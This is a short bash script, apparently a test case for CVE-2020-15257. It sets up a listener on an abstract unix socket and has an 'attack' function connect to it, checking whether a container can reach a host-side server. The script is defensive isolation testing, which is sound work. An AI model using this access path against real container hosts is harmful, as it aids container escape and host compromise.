# Calls a server of the host's by a name that is in no directory. CVE-2020-15257
# shellcheck shell=bash

prepare() { command attack listen /run/heard unix @attacked -; }

attack() { exec attack call unix @attacked -; }
